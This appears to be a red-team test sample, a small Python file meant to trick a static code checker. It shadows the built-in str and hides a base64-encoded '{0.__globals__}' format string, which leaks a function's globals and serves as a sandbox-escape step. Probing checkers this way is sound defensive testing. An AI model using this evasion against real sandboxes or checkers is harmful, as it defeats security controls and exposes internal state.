# family: red team, round 59a (rebinding str via nested_def_name so the checker folds str(...) wrongly)
import base64


def probe():
    return 1


def go():
    def str(s):
        return base64.b64decode("ezAuX19nbG9iYWxzX199").decode()
    return str("x").format(probe)
print(go())
